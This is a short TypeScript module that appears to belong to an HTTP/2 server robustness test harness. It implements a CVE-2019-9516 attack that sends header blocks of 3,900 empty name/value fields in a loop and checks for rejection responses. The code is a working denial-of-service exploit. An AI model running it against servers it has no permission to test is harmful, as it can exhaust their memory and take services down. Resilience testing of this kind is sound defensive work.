// Fields without a name or a value, which cost a reader more than a sender.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2, closedLoop, head, request } from '../wire/http2.ts'

const FIELDS = h2.headerBlock(new Array<string[]>(3_900).fill(['', '']).flat())

export const attack: Attack = {
  reference: 'CVE-2019-9516',
  does: 'sends 3,900 fields without a value in each head',
  who: ['known', 'unknown'],
  answers: ['400', '431', 'RST_STREAM PROTOCOL_ERROR', 'GOAWAY PROTOCOL_ERROR', 'RST_STREAM REFUSED_STREAM'],
  run: (target, signal) =>
    attackHttp2(target, signal, {}, (connection) =>
      closedLoop(connection, 20, request(Buffer.concat([head(target, 'GET', '/version'), FIELDS]))),
    ),
}
